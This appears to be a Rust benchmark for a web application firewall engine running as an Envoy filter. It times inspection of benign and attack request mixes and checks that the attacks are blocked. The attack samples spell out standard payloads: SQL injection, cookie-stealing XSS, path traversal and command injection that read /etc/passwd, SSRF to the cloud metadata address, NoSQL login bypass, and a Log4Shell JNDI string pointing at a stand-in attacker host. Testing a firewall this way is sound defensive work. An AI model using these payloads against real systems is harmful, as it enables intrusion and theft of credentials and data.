//! Engine time per request for the same benign and attack mixes `make bench` sends through
//! Envoy (bench/benign.lua, bench/attack.lua), as the filter sees them. Runs natively and, built
//! for wasm32-wasip1, inside a wasm engine, so the two costs can be compared directly:
//!
//! cargo run --release -p vigil-engine --example mix [ROUNDS [SAMPLE]]
//! cargo build --release -p vigil-engine --example mix --target wasm32-wasip1
//! node bench/wasi-run.mjs target/wasm32-wasip1/release/examples/mix.wasm [ROUNDS [SAMPLE]]
//! Env: MIX=benign or MIX=attack runs one mix; EVICT=0 skips the evicted-cache pass.
use std::hint::black_box;
use std::time::Instant;

use vigil_engine::{CompiledPolicy, Outcome, Request};

const JWT: &str = "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MTYzZTY2OS1jYzM0LTQyODMiLCJleHAiOjE5MDAwMDAwMDAsInNjb3BlIjoicmVhZDphbGwifQ.QCoNw864tdbGHmHwp8C0VRiGHCZoyitJB-f9GjgoLY8";
const UA: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15";

struct Sample {
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, Vec<u8>)>,
    body: Option<Vec<u8>>,
}

/// Headers in the order Envoy hands them to a filter for a wrk request from bench/benign.lua.
fn benign(method: &'static str, target: &str, body: Option<String>) -> Sample {
    let mut headers = pseudo_headers(method, target);
    headers.extend([
        ("authorization", JWT.as_bytes().to_vec()),
        ("user-agent", UA.as_bytes().to_vec()),
        ("accept", b"application/json".to_vec()),
        ("accept-language", b"en-US,en;q=0.9".to_vec()),
        (
            "x-request-id",
            b"1fbc5971-47a6-475f-b86a-4ff7fc94a95d".to_vec(),
        ),
    ]);
    sample(method, target, headers, body.map(String::into_bytes))
}

/// Envoy's pseudo-headers for a wrk request.
fn pseudo_headers(method: &'static str, target: &str) -> Vec<(&'static str, Vec<u8>)> {
    vec![
        (":authority", b"127.0.0.1:18190".to_vec()),
        (":path", target.as_bytes().to_vec()),
        (":method", method.as_bytes().to_vec()),
        (":scheme", b"http".to_vec()),
    ]
}

/// Ends the headers as Envoy does (the body's type and length, then `x-forwarded-proto`).
fn sample(
    method: &'static str,
    target: &str,
    mut headers: Vec<(&'static str, Vec<u8>)>,
    body: Option<Vec<u8>>,
) -> Sample {
    if let Some(b) = &body {
        headers.push(("content-type", b"application/json".to_vec()));
        headers.push(("content-length", b.len().to_string().into_bytes()));
    }
    headers.push(("x-forwarded-proto", b"http".to_vec()));
    Sample {
        method,
        target: target.to_owned(),
        headers,
        body,
    }
}

fn items(n: usize) -> String {
    let parts: Vec<String> = (1..=n)
        .map(|i| {
            format!(
                r#"{{"sku": "SKU-{i:04}", "qty": {}, "price": 12.5, "note": "Leave at the door, ring twice. O'Brien's order #{i}"}}"#,
                i % 5 + 1
            )
        })
        .collect();
    format!(
        r#"{{"customer": "cus_YfxMbhkuJedX0F", "currency": "usd", "items": [{}]}}"#,
        parts.join(", ")
    )
}

fn benign_mix() -> Vec<Sample> {
    let rich = format!(
        r###"{{"body": "## Release notes\n\nWe **improved** search: try `select the best plan`, O'Brien & Co. <b>bold</b> and <a href=\"https://example.com/docs\">docs</a>. {}", "format": "markdown"}}"###,
        "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(50)
    );
    vec![
        benign(
            "GET",
            "/v1/customers/cus_lYsv1zHM9TBCn8/charges?limit=10&starting_after=ch_cRUMQlk6h54ILV",
            None,
        ),
        benign(
            "GET",
            "/v1/search?q=O%27Brien%20running%20shoes&page=2&per_page=50",
            None,
        ),
        benign("POST", "/v1/orders", Some(items(4))),
        benign(
            "GET",
            "/v1/orders?status=cancelled&sort=-created_at&page=29",
            None,
        ),
        benign("POST", "/v1/orders", Some(items(18))),
        benign(
            "PUT",
            "/v1/users/6530057e-bc04-4ac4-8384-799927cf6e09/profile",
            Some(r#"{"display_name": "Jean-Luc O'Brien", "timezone": "Europe/Dublin", "bio": "Select the best plan for your team."}"#.into()),
        ),
        benign("POST", "/v1/posts/42/comments", Some(rich)),
        benign(
            "GET",
            "/v1/events?type=order.%2A&occurred_after=2024-01-17T04%3A30%3A00-05%3A00",
            None,
        ),
    ]
}

fn attack(method: &'static str, target: &str, ua: &str, json: Option<&str>) -> Sample {
    let mut headers = pseudo_headers(method, target);
    headers.push(("user-agent", ua.as_bytes().to_vec()));
    sample(method, target, headers, json.map(|b| b.as_bytes().to_vec()))
}

fn attack_mix() -> Vec<Sample> {
    let ua = "Mozilla/5.0";
    vec![
        attack(
            "GET",
            "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            ua,
            None,
        ),
        attack(
            "POST",
            "/comments",
            ua,
            Some(r#"{"text": "<img src=x onerror=alert(document.cookie)>"}"#),
        ),
        attack(
            "GET",
            "/files?name=..%252f..%252f..%252fetc%252fpasswd",
            ua,
            None,
        ),
        attack(
            "GET",
            "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
            ua,
            None,
        ),
        attack("GET", "/users/1", "${jndi:ldap://attacker.example/a}", None),
        attack(
            "POST",
            "/login",
            ua,
            Some(r#"{"username": {"$ne": null}, "password": {"$ne": null}}"#),
        ),
        attack("GET", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", ua, None),
        attack("GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", None),
    ]
}

/// Best-of-`rounds` time per request for each sample, in microseconds. The samples are
/// interleaved, as in the wrk mix, and with `evict` a buffer larger than the L2 cache is
/// touched between requests (untimed), as the proxy's own work does between two requests.
fn measure(policy: &CompiledPolicy, samples: &[Sample], rounds: usize, evict: bool) -> Vec<f64> {
    let now = || 1_800_000_000u64;
    let mut best = vec![f64::INFINITY; samples.len()];
    let mut junk = vec![0u8; if evict { 4 << 20 } else { 0 }];
    let requests: Vec<Vec<(&str, &[u8])>> = samples
        .iter()
        .map(|s| s.headers.iter().map(|(n, v)| (*n, v.as_slice())).collect())
        .collect();
    // Optional second argument: measure only the sample with this index.
    let only: Option<usize> = std::env::args().nth(2).and_then(|a| a.parse().ok());
    for round in 0..rounds * 50 {
        for (i, s) in samples.iter().enumerate() {
            if only.is_some_and(|o| o != i) {
                continue;
            }
            let request = Request {
                method: s.method,
                target: s.target.as_bytes(),
                headers: &requests[i],
                body: s.body.as_deref(),
                body_truncated: false,
            };
            for b in junk.iter_mut().step_by(64) {
                *b = b.wrapping_add(round as u8);
            }
            black_box(&junk);
            let start = Instant::now();
            black_box(policy.inspect(black_box(&request), &now));
            let us = start.elapsed().as_secs_f64() * 1e6;
            best[i] = best[i].min(us);
        }
    }
    best
}

fn main() {
    let rounds: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(20);
    let start = Instant::now();
    let policy = CompiledPolicy::builtin().expect("built-in policy");
    println!(
        "compile built-in policy: {:.1} ms",
        start.elapsed().as_secs_f64() * 1e3
    );
    for (name, samples, expect_block) in [
        ("benign", benign_mix(), false),
        ("attack", attack_mix(), true),
    ] {
        // `MIX=benign` or `MIX=attack` runs one mix (e.g. to profile it alone).
        if std::env::var("MIX").is_ok_and(|m| m != name) {
            continue;
        }
        let now = || 1_800_000_000u64;
        for s in &samples {
            let headers: Vec<(&str, &[u8])> =
                s.headers.iter().map(|(n, v)| (*n, v.as_slice())).collect();
            let request = Request {
                method: s.method,
                target: s.target.as_bytes(),
                headers: &headers,
                body: s.body.as_deref(),
                body_truncated: false,
            };
            let blocked = policy.inspect(&request, &now).outcome == Outcome::Block;
            assert_eq!(blocked, expect_block, "{name}: {} {}", s.method, s.target);
        }
        // `EVICT=0` skips the evicted-cache pass (whose cache-thrashing loop swamps a profile).
        let evict_too = std::env::var("EVICT").map_or(true, |e| e != "0");
        for evict in [false, true] {
            if evict && !evict_too {
                continue;
            }
            let times: Vec<f64> = measure(&policy, &samples, rounds, evict)
                .into_iter()
                .filter(|t| t.is_finite())
                .collect();
            let mean = times.iter().sum::<f64>() / times.len() as f64;
            let each: Vec<String> = times.iter().map(|t| format!("{t:.1}")).collect();
            println!(
                "{name} mix{}: {mean:.2} us per request (each: {})",
                if evict { ", caches evicted" } else { "" },
                each.join(" ")
            );
        }
    }
}
